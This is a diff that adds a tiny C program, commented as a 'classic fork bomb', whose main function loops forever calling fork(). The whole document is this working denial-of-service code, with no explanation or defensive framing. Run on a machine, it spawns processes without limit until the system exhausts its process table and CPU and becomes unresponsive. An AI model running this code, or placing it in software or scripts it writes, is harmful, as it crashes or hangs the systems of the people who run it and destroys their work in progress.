@@ -1,0 +1,7 @@
+/* Classic fork bomb: every process forks forever. */
+#include <unistd.h>
+int main(void)
+{
+	for (;;)
+		fork();
+}
